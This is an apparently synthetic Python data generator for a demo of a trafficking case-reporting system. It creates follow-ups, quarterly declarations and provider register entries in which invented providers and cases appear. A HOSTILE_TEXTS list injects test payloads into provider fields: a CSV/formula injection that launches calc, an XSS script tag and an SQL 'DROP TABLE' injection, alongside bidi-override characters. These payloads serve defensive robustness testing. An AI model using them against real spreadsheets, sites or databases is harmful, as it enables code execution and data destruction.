"""What is sent besides cases: follow-ups of cases, the register of providers, and the quarterly declarations."""

from __future__ import annotations

from collections import Counter
from datetime import date, timedelta
from random import Random

from kobo_sync.demo.scenario.build import Scenario
from kobo_sync.demo.scenario.facts import (
    PROVIDERS,
    QUARTERS,
    SILENT,
    SILENT_QUARTERS,
    Answers,
    Case,
    Provider,
    age_on,
    moment,
    pick,
)
from kobo_sync.demo.scenario.traite_report import band_of

HOSTILE_TEXTS = (
    '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez ici")',
    "  =1+1",
    "\ufeff+cmd|' /C calc'!A0",
    "@SUM(A1:A9)\t-2+3",
    "École des enfants 👧🏽👦🏿 🚨 👨‍👩‍👧‍👦, suite demain",
    "وجد الأطفال في المحطة \u202eetxet erbmun\u202c fin",
    "Nom très long. " + "La piste est longue " * 8,
    "signes\u200b de\u2028mise \ufffden page \ue000 ]]> <script>alert(1)</script> &amp; %s",
    "'; DROP TABLE submission; -- ${code_evenement} \\u0000",
)
_LAST = date(2026, 9, 10)
"""Nothing is sent later on the first day."""


def tell(scenario: Scenario) -> None:
    """Adds the three kinds to the scenario, told from the cases that it holds."""
    cases = [case for case in scenario.cases if case.day == 1 and not any("abime" in tag for tag in case.tags)]
    follow_ups(scenario, cases)
    declarations(scenario, cases)
    register(scenario)


def _add(
    scenario: Scenario, form: str, provider: Provider, rng: Random, day: date, answers: Answers, *tags: str,
    account: str = "",
) -> Case:  # fmt: skip
    sent = moment(rng, min(day, _LAST))
    case = Case(form, provider, "", sent, answers, {}, tags=list(tags), account=account)
    scenario.cases.append(case)
    return case


def follow_ups(scenario: Scenario, cases: list[Case]) -> None:
    """What became of persons and suspects some months later; one worker names a case that nobody sent."""
    rng = scenario.rng("suivis")
    known = [
        case
        for case in cases
        if case.form == "traite"
        and case.answers["date_connue"] == "oui"
        and case.persons
        and case.repeats["victime"][0].get("v_c_enreg") in ("oui", "mandat")
    ]
    for place, case in enumerate(rng.sample(known, 24)):
        row = case.repeats["victime"][0]
        seen = date.fromisoformat(case.answers["date_detection"])
        when = case.sent.date() + timedelta(days=rng.randrange(10, 60))
        answers: Answers = {
            "entite": case.provider.code,
            "code_cas": case.code if place != 5 else scenario.code(),
            "fiche": "traite",
            "c_mois": seen.replace(day=1).isoformat(),
        }
        if place % 4 == 3 and case.repeats["auteur"]:
            stage = pick(rng, {"prosecuted": 3, "convicted": 2, "dismissed": 1})
            answers |= {"ligne": "auteur", "ligne_no": "1", "stade": stage, "stade_date": when.isoformat()}
            if stage == "convicted":
                answers |= {"peine": "prison", "peine_mois": "60"}
            answers["suivi_types"] = "prosecution" if stage == "prosecuted" else "judgment"
            answers |= {"c_sexe": case.repeats["auteur"][0].get("a_sexe", "U"), "c_tranche": "unk"}
        else:
            answers |= {"ligne": "victime", "ligne_no": "1", "c_sexe": row["v_sexe"], "c_tranche": _band(row, seen)}
            answers |= _withdrawal(when) if place in (2, 14) else _support(rng, when, place)
        if place == 9:
            answers["c_sexe"] = "M" if row["v_sexe"] == "F" else "F"  # another person: the confirmation will differ
        _add(scenario, "suivi", case.provider, rng, when, answers, "suivi")


def _band(row: Answers, seen: date) -> str:
    if "v_tranche" in row:
        return row["v_tranche"]
    if "v_date_naissance" in row:
        return band_of(age_on(date.fromisoformat(row["v_date_naissance"]), seen))
    return band_of(int(row["v_age"])) if "v_age" in row else "unk"


def _support(rng: Random, when: date, place: int) -> Answers:
    if place % 3:
        aid = pick(rng, {"SocialCare": 3, "Health": 2, "shelter": 2, "Education": 1})
        return {"suivi_types": "assistance", "aide": aid, "aide_date": when.isoformat()}
    return {"suivi_types": "return", "retour_type": "family", "retour_pays": "NER", "retour_date": when.isoformat()}


def _withdrawal(when: date) -> Answers:
    return {"suivi_types": "withdrawal", "retrait": "partage", "retrait_date": when.isoformat()}


def declarations(scenario: Scenario, cases: list[Case]) -> None:
    """Half of the bodies declare each quarter; a coordinator telephones the one that fell silent: an état néant."""
    rng = scenario.rng("declarations")
    sent: Counter[tuple[str, str, str]] = Counter()
    for case in cases:
        day = case.answers.get("date_detection")
        if day and case.form in ("traite", "trafic"):
            label = next(label for label, first, last in QUARTERS if first <= date.fromisoformat(day) <= last)
            sent[case.provider.code, case.form, label] += 1
    for place, provider in enumerate(PROVIDERS):
        if provider.code in SILENT or place % 2:
            continue
        for label, _, last in QUARTERS:
            events = {form: sent[provider.code, form, label] for form in ("traite", "trafic")}
            answers = _period(provider, label) | {"mode_decl": "self"}
            if any(events.values()):
                numbers = (events["traite"], events["traite"] * 2, events["trafic"], events["trafic"] * 20)
                names = ("nb_traite", "nb_victimes", "nb_trafic", "nb_migrants")
                answers |= {"neant": "non"} | {name: str(n) for name, n in zip(names, numbers, strict=True)}
            else:
                answers["neant"] = "oui"
            _add(scenario, "declaration", provider, rng, last + timedelta(days=rng.randrange(3, 28)), answers)
    for code, label in SILENT_QUARTERS.items():
        provider = next(one for one in PROVIDERS if one.code == code)
        last = next(last for known, _, last in QUARTERS if known == label)
        call = last + timedelta(days=20)
        answers = _period(provider, label) | {"mode_decl": "phone", "date_appel": call.isoformat(), "neant": "oui"}
        _add(scenario, "declaration", provider, rng, call, answers, "etat_neant", account="coord_niamey")


def _period(provider: Provider, label: str) -> Answers:
    year, _, quarter = label.partition("-")
    return {"entite": provider.code, "annee": year, "trimestre": quarter, "certifie": "oui"}


def register(scenario: Scenario) -> None:
    """Each provider’s sheet, one with the copy of its memorandum, and names that a spreadsheet or a page would run."""
    rng = scenario.rng("fournisseurs")
    scanned = ""
    for provider in PROVIDERS:
        answers: Answers = {
            "org_connu": "oui",
            "org_code": provider.code,
            "pf_nom": "Point focal (inventé)",
            "pf_fonction": "Secrétaire",
        }
        state = pick(rng, {"signed": 5, "sent": 3, "to_approach": 2, "expired": 1})
        if state == "signed" and not scanned:
            scanned = answers["mou_scan"] = "protocole-signe.pdf"
        _add(scenario, "fournisseur", provider, rng, date(2025, 7, 10), answers | _sheet(rng, provider, state))
    for place, text in enumerate(HOSTILE_TEXTS):
        provider = PROVIDERS[place]
        answers = {"org_connu": "non", "org_nom": text, "pf_nom": text[:60], "pf_fonction": text[:60], "me_motif": text}
        case = _add(
            scenario, "fournisseur", provider, rng, date(2026, 2, 3), answers | _sheet(rng, provider, "refused")
        )
        case.tags.append("texte_hostile")


def _sheet(rng: Random, provider: Provider, state: str) -> Answers:
    answers: Answers = {
        "org_type": provider.type,
        "org_region": provider.region,
        "donnees": "cases victims perpetrators" if provider.family == "justice_securite" else "victims assistance",
        "outil": pick(rng, {"paper": 5, "spreadsheet": 4, "database": 1}),
        "depuis": "2019",
        "base": "mandate" if provider.nominative else "consent",
        "noms": "oui" if provider.nominative else "non",
        "frequence": pick(rng, {"quarterly": 3, "irregular": 5, "yearly": 2}),
        "me_etat": state,
        "toujours_vrai": "oui",
    }
    if state in ("signed", "expired", "sent", "refused"):
        answers["me_date"] = "2025-06-02"
    return answers
